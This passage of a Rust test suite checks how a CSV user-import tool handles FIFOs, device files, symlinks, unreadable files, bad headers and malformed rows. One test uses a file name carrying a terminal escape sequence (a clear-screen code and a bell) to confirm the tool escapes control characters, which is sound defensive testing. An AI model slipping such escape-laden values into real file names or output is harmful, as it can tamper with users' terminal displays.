        .lines()
        .map(str::to_string)
        .collect();
    on_disk.extend(generated.iter().cloned());
    let listed: BTreeSet<String> = CORPUS.iter().map(|(_, n)| n.to_string()).collect();
    assert_eq!(CORPUS.len(), listed.len(), "a file is listed twice");
    assert_eq!(listed, on_disk, "corpus table and files differ");
    for (origin, name) in CORPUS {
        assert_eq!(
            *origin == Origin::Generated,
            generated.contains(*name),
            "{name}: wrong origin"
        );
    }
    let fixtures = CORPUS.iter().filter(|(o, _)| *o == Origin::Fixture).count();
    assert!(fixtures >= 30, "only {fixtures} committed fixtures");
}

// ---- paths that are not CSV files --------------------------------------------------------

#[test]
fn a_fifo_is_refused_and_never_read() {
    let wd = standard_workdir();
    let fifo = wd.path("pipe.csv");
    let status = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo");
    assert!(status.success());
    let out = assert_path_refused(&wd, &fifo, "pipe.csv", Duration::from_secs(20));
    assert!(out.stderr.contains("not a regular file"), "{out}");
}

#[test]
fn a_folder_is_refused() {
    let wd = standard_workdir();
    std::fs::create_dir(wd.path("folder.csv")).unwrap();
    std::fs::write(wd.path("folder.csv/inside.csv"), "UPN\n").unwrap();
    assert_path_refused(&wd, &wd.path("folder.csv"), "folder.csv", TIME_LIMIT);
}

#[test]
fn a_missing_file_is_refused() {
    let wd = standard_workdir();
    let out = assert_path_refused(&wd, &wd.path("nowhere.csv"), "nowhere.csv", TIME_LIMIT);
    assert!(out.stderr.contains("no such file"), "{out}");
}

#[test]
fn device_files_are_refused_and_never_read() {
    for device in ["/dev/zero", "/dev/urandom", "/dev/null"] {
        if !Path::new(device).exists() {
            continue;
        }
        let wd = standard_workdir();
        assert_path_refused(&wd, Path::new(device), device, Duration::from_secs(20));
    }
}

#[test]
fn an_unreadable_file_is_refused() {
    use std::os::unix::fs::PermissionsExt;
    let wd = standard_workdir();
    let path = wd.path("secret.csv");
    std::fs::write(
        &path,
        format!("{USERS_HEADER}\nzed@contoso.com,Zed,Max,true,upsert\n"),
    )
    .unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o000)).unwrap();
    if File::open(&path).is_ok() {
        // Running as root: permissions do not stop it.
        return;
    }
    let out = assert_path_refused(&wd, &path, "secret.csv", TIME_LIMIT);
    assert!(out.stderr.contains("permission denied"), "{out}");
}

#[test]
fn a_symlink_on_the_command_line_is_followed() {
    let wd = standard_workdir();
    let target = wd.path("real.csv");
    std::fs::write(
        &target,
        format!("{USERS_HEADER}\nzed@contoso.com,Zed,Max,true,upsert\n"),
    )
    .unwrap();
    std::os::unix::fs::symlink(&target, wd.path("link.csv")).unwrap();
    let out = run_numbatch(
        &wd,
        &[OsStr::new("run"), OsStr::new("link.csv")],
        TIME_LIMIT,
    );
    assert_sane(&out, "link.csv");
    assert_eq!(out.code, 0, "{out}");
    assert_eq!(wd.users_now()["zed@contoso.com"]["DisplayName"], "Zed");
}

#[test]
fn a_symlink_loop_is_refused() {
    let wd = standard_workdir();
    std::os::unix::fs::symlink("loop-b.csv", wd.path("loop-a.csv")).unwrap();
    std::os::unix::fs::symlink("loop-a.csv", wd.path("loop-b.csv")).unwrap();
    assert_path_refused(&wd, &wd.path("loop-a.csv"), "loop-a.csv", TIME_LIMIT);
}

#[test]
fn a_dangling_symlink_is_refused() {
    let wd = standard_workdir();
    std::os::unix::fs::symlink("gone.csv", wd.path("dangling.csv")).unwrap();
    assert_path_refused(&wd, &wd.path("dangling.csv"), "dangling.csv", TIME_LIMIT);
}

#[test]
fn a_symlink_to_a_fifo_is_refused() {
    let wd = standard_workdir();
    let fifo = wd.path("pipe");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    std::os::unix::fs::symlink(&fifo, wd.path("pipe-link.csv")).unwrap();
    assert_path_refused(
        &wd,
        &wd.path("pipe-link.csv"),
        "pipe-link.csv",
        Duration::from_secs(20),
    );
}

// ---- several files, file names, row numbers ---------------------------------------------

const GOOD_USERS: &str = "UserPrincipalName,DisplayName,Plan,VoiceEnabled,Action\n\
                          zed@contoso.com,Zed,Max,true,upsert\n";

#[test]
fn a_bad_header_in_a_later_file_queues_nothing() {
    let wd = standard_workdir();
    wd.create("good.csv", GOOD_USERS);
    wd.create("bad.csv", "UserPrincipalName,Colour\nzed@contoso.com,red\n");
    let out = run_numbatch(
        &wd,
        &[
            OsStr::new("run"),
            OsStr::new("good.csv"),
            OsStr::new("bad.csv"),
        ],
        TIME_LIMIT,
    );
    assert_sane(&out, "bad.csv");
    assert_rejected(&wd, &out, "bad.csv", Some(1));
}

#[test]
fn a_broken_row_in_a_later_file_queues_nothing() {
    let wd = standard_workdir();
    wd.create("good.csv", GOOD_USERS);
    wd.create(
        "broken.csv",
        "UserPrincipalName,DisplayName\nyan@contoso.com,Yan\nxi@contoso.com,\"Xi\n",
    );
    for command in ["run", "submit"] {
        let out = run_numbatch(
            &wd,
            &[
                OsStr::new(command),
                OsStr::new("good.csv"),
                OsStr::new("broken.csv"),
            ],
            TIME_LIMIT,
        );
        assert_sane(&out, "broken.csv");
        assert_rejected(&wd, &out, "broken.csv", Some(3));
    }
}

#[test]
fn carriage_return_only_line_ends_count_blank_lines() {
    let wd = standard_workdir();
    let path = fixtures_dir().join("cr-only-line-ends.csv");
    let out = run_numbatch(&wd, &[OsStr::new("run"), path.as_os_str()], TIME_LIMIT);
    assert_sane(&out, "cr-only-line-ends.csv");
    let job = &new_jobs(&wd)[0];
    let job = JobRef {
        id: job["id"].as_i64().unwrap(),
        stem: "cr-only-line-ends".into(),
    };
    // Header row 1, zed row 2, a blank row 3, the bad UPN row 4.
    assert_eq!(wd.codes(&job), vec![(4, "INVALID_UPN".to_string())]);
}

#[test]
fn an_unclosed_quote_is_reported_where_it_opened() {
    let wd = standard_workdir();
    // Row 2 starts on line 2, closes a multi-line cell on line 3, then opens
    // a quote on line 3 that never closes.
    wd.create(
        "late-quote.csv",
        "UserPrincipalName,DisplayName,Plan\nzed@contoso.com,\"Zed\nZimmer\",\"Max\nyan@contoso.com,Yan,Max\n",
    );
    let out = run_numbatch(
        &wd,
        &[OsStr::new("run"), OsStr::new("late-quote.csv")],
        TIME_LIMIT,
    );
    assert_sane(&out, "late-quote.csv");
    assert_rejected(&wd, &out, "late-quote.csv", Some(3));
}

#[test]
fn control_characters_in_a_file_name_are_escaped() {
    let wd = standard_workdir();
    let name = "evil\x1b[2J\x07name.csv";
    wd.create(name, GOOD_USERS);
    let out = run_numbatch(&wd, &[OsStr::new("run"), OsStr::new(name)], TIME_LIMIT);
    assert_eq!(out.code, 0, "{out}");
    assert_sane(&out, name);
    let id = new_jobs(&wd)[0]["id"].as_i64().unwrap().to_string();
    for args in [vec!["jobs"], vec!["job", &id]] {
        let args: Vec<&OsStr> = args.iter().map(OsStr::new).collect();
        let out = run_numbatch(&wd, &args, TIME_LIMIT);
        assert_sane(&out, name);
        assert!(out.stdout.contains("\\u{1b}"), "{out}");
    }
}

#[test]
fn a_file_name_that_is_not_utf8_is_handled() {
    use std::os::unix::ffi::OsStrExt;
    let wd = standard_workdir();
    let name = OsStr::from_bytes(b"caf\xe9.csv");
    std::fs::write(wd.root().join(name), GOOD_USERS).unwrap();
    let out = run_numbatch(&wd, &[OsStr::new("run"), name], TIME_LIMIT);
    assert_sane(&out, "caf\u{FFFD}.csv");
    assert_eq!(out.code, 0, "{out}");
    assert!(wd.users_now().contains_key("zed@contoso.com"));
}
